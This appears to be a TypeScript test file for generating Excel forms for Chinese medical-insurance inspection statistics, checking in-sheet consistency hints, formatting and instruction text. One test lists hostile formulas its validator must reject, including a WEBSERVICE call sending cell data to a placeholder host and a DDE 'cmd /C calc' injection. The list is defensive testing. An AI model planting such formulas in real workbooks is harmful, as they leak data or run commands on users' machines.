import { cellKey, type Grid, type TableDefinition } from '@duban/tables';
import { createWorkbookPool, type WorkbookPool } from '@duban/workbook';
import type { Worksheet } from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixedLength } from '../src/child/ledger/ledger-validations.js';
import { open } from './book.js';
import { blockForm, countedForm } from './forms.js';
import { isHarmless } from './harmless-formula.js';
import { marksOf, sheetOf } from './looking.js';
import { cleanGrid, header, identity, prefill, secret, t1 } from './t1.js';

const first = cleanGrid();
const second = cleanGrid(first);
let pool: WorkbookPool;
let template: Uint8Array;
beforeAll(async () => {
  pool = createWorkbookPool({ size: 1 });
  template = await pool.template({ table: t1, identity, prefill: { ...prefill(first), lastPeriod: first }, secret });
});
afterAll(() => pool.close());

async function formOf(bytes: Uint8Array): Promise<Worksheet> {
  return sheetOf(await open(bytes), '统计表');
}
const filledWith = async (changes: Grid) =>
  formOf(await pool.fill({ bytes: template, table: t1, grid: { ...second, ...changes }, header }));

const rowOf = (form: Worksheet, measure: string) =>
  Number(marksOf(form, measure).find(({ text }) => text === measure)?.cell.row);
/** What 核对 says beside a measure, as it is cached for programs that do not calculate. */
const hint = (form: Worksheet, measure: string) => String(form.getCell(`K${rowOf(form, measure)}`).result ?? '');
const status = (form: Worksheet) => String(form.getCell('H4').result ?? '');

describe('the live checks of a form', () => {
  it('say nothing before anything is typed', async () => {
    const form = await formOf(template);
    expect(status(form)).toBe('表内核对：填写后自动核对');
    form.eachRow((row) => expect(String(row.getCell('K').result ?? '')).toBe(''));
  });
  it('say that everything agrees when it does', async () => {
    expect(status(await filledWith({}))).toBe('表内核对：全部相符');
  });
  it('say in the row what the figure should be and where that comes from, and count the rows', async () => {
    const form = await filledWith({ 'chkInst.current': 31, 'hdlTalk.current': 13 });
    expect(hint(form, 'chkInst')).toContain('本期应等于 30家（医疗机构 + 零售药店）');
    expect(hint(form, 'hdlTalk')).toContain('本期应不大于 12家（处理违法违规机构）');
    expect(hint(form, 'chkHosp')).toBe('');
    expect(status(form)).toBe('表内核对：有 2 行不符，见右侧“核对”栏');
  });
  it('compare money to the 分', async () => {
    const form = await filledWith({ 'amtRecover.current': (second['amtRecover.current'] as number) + 1 });
    expect(hint(form, 'amtRecover')).toContain('本期应等于 300万元（自查自纠退回 + 检查核查追回 + 拒付）');
  });
  it('hold 累计 of 家 against what was accepted last time', async () => {
    const form = await filledWith({ 'chkAgency.cumulative': 1 });
    expect(hint(form, 'chkAgency')).toBe('累计应不小于 2家（上期累计、本期 中最大的）；');
  });
  it('count what is still blank, and do not compare with a blank', async () => {
    const form = await filledWith({ 'chkInst.current': null, 'chkHosp.current': null });
    expect(hint(form, 'chkInst')).toBe('');
    expect(status(form)).toBe('还有 2 格没填；表内核对：全部相符');
  });
  it('turn the figure red by a conditional format, in the column that is wrong', async () => {
    const form = (await formOf(template)) as unknown as {
      conditionalFormattings: { ref: string; rules: { formulae: string[] }[] }[];
    };
    const sheet = await formOf(template);
    const [inst, hosp, pharm] = ['chkInst', 'chkHosp', 'chkPharm'].map((key) => rowOf(sheet, key));
    const rule = form.conditionalFormattings.find(({ ref }) => ref === `E${inst}`);
    expect(rule?.rules[0]?.formulae[0]).toContain(
      `IF(COUNT($E$${inst},$E$${hosp},$E$${pharm})=3,ROUND($E$${inst}-($E$${hosp}+$E$${pharm}),10)<>0,FALSE)`,
    );
  });
  it('are written in formulas that reach nothing but the workbook’s own cells', async () => {
    const formulas: string[] = [];
    for (const bytes of [template, await pool.template({ table: countedForm, identity, prefill: prefill(), secret })]) {
      for (const sheet of (await open(bytes)).worksheets) {
        sheet.eachRow((row) => row.eachCell((cell) => cell.formula && formulas.push(cell.formula)));
      }
    }
    expect(formulas.length).toBeGreaterThan(100);
    for (const formula of formulas) expect(isHarmless(formula), formula).toBe(true);
  });
  it('stand beside what is printed, with last period’s own figures', async () => {
    const form = await formOf(template);
    expect(form.pageSetup.printArea).toMatch(/^A1:H\d+$/);
    expect(form.getCell(`J${rowOf(form, 'chkVisits')}`).value).toBe(first['chkVisits.current']);
    expect(form.getCell('K5').value).toBe('核对');
  });
});

describe('a department that is 不适用', () => {
  it('is not held against its figures, whatever was left in them, and owes none', async () => {
    const table = {
      ...blockForm,
      checks: [
        {
          id: 'X-1',
          severity: 'E',
          scope: 'sheet',
          ledger: null,
          expr: 'filed <= received',
          columns: ['current'],
          message: '',
          source: '',
        },
      ],
    } satisfies TableDefinition;
    const bytes = await pool.template({ table, identity, prefill: prefill(), secret });
    const grid = { 'transferred.current': 1, 'fined.current': 1, 'received.current': 2, 'filed.current': 3 } as const;
    const shown = async (absentBlocks: readonly string[]) => {
      const form = await formOf(await pool.fill({ bytes, table, grid, header, absentBlocks }));
      return [hint(form, 'filed'), String(form.getCell('H3').result)];
    };
    expect(await shown([])).toEqual([
      '本期应不大于 2件（接收移送）；',
      '还有 1 格没填；表内核对：有 1 行不符，见右侧“核对”栏',
    ]);
    expect(await shown(['police'])).toEqual(['', '表内核对：全部相符']);
  });
});

describe('累计 that the form adds up itself', () => {
  it('is still held against its parts, however their sum is written', async () => {
    const check = { id: 'X-1', severity: 'E', scope: 'sheet', ledger: null, message: '', source: '' } as const;
    const said = await Promise.all(
      ['received + filed', 'sum(received, filed)'].map(async (parts) => {
        const checks = [{ ...check, expr: `transferred == ${parts}`, columns: ['cumulative'] as const }];
        const table = { ...blockForm, checks } satisfies TableDefinition;
        const bytes = await pool.template({ table, identity, prefill: prefill(), secret });
        const grid = { 'transferred.current': 5, 'received.current': 2, 'filed.current': 1 } as const;
        return hint(await formOf(await pool.fill({ bytes, table, grid, header })), 'transferred');
      }),
    );
    for (const text of said) expect(text).toMatch(/^累计应等于 3件/);
  });
});

describe('a rule that no cell can tell', () => {
  it('is left to the check after handing in: last year, other offices, distinct codes', async () => {
    const checks: TableDefinition['checks'] = [
      'visits >= base(visits)',
      'visits <= peer(visits)',
      'visits == distinct(clues.clueNo)',
    ].map((expr, i) => ({
      id: `X-${i}`,
      severity: 'E',
      scope: 'sheet',
      ledger: null,
      expr,
      columns: ['current'],
      message: '',
      source: '',
    }));
    const table = { ...countedForm, checks };
    const form = await formOf(await pool.template({ table, identity, prefill: prefill(), secret }));
    const letters = new Set<string>();
    form.eachRow((row) => row.eachCell((cell) => cell.formula && letters.add(cell.address.replace(/\d/g, ''))));
    expect([...letters].sort()).toEqual(['E', 'G', 'H']);
  });
});

describe('a formula that reaches further is told apart', () => {
  it.each([
    'WEBSERVICE("http://x/"&A1)',
    "cmd|' /C calc'!A0",
    "'[x.xlsx]a'!A1",
    '[1]Sheet1!A1',
    'HYPERLINK("http://x","y")',
    'INDIRECT("A"&1)',
    'IF(E7="","",_xlfn.FILTERXML(A1,"x"))',
    'myName+1',
  ])('%s', (formula) => {
    expect(isHarmless(formula)).toBe(false);
  });
});

it('tells how long codes are only where the shape says so', () => {
  expect(fixedLength('[HP][0-9]{11}')).toBe(12);
  expect(fixedLength('^\\d{18}$')).toBe(18);
  expect(fixedLength('[A-Z]{2}-\\d{4}')).toBe(7);
  for (const open of [null, '', '\\d+', '\\d{15}|\\d{18}', '(ab)?\\d{3}', '\\d{3,5}', 'A.*'])
    expect(fixedLength(open)).toBeNull();
});

describe('填表说明', () => {
  it('lists the rules of the form in its own words, like ones in one line', async () => {
    const sheet = (await open(template)).getWorksheet('填表说明');
    const lines: string[] = [];
    sheet?.eachRow((row) => lines.push(String(row.getCell('B').value ?? '')));
    expect(lines).toContain('检查定点医药机构 = 医疗机构 + 零售药店');
    expect(lines).toContain(
      '各项 ≤ 处理违法违规机构（各项：约谈、限期整改、通报批评、拒付或追回费用（涉及机构）、收取违约金（涉及机构）、中止责任人或责任部门医保服务、暂停（中止）医保服务协议、解除医保服务协议、行政处罚（涉及机构））',
    );
    expect(lines).toContain(
      '各项 = 各项（上期累计） + 各项（本期） + 各项（上期调整数）（各项：家次、件、金额等可以相加的全部指标）',
    );
    expect(lines.some((line) => line.includes(cellKey('chkInst', 'current')) || /[a-z]{4,}/.test(line))).toBe(false);
  });
});
